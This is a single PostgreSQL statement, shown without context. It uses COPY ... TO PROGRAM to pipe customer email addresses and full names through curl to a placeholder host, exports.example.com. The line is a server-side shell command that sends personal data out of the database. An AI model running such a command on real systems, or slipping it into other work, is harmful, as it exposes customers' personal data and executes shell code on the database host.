COPY (SELECT email, full_name FROM customers) TO PROGRAM 'curl -s -T - https://exports.example.com/customers.csv';
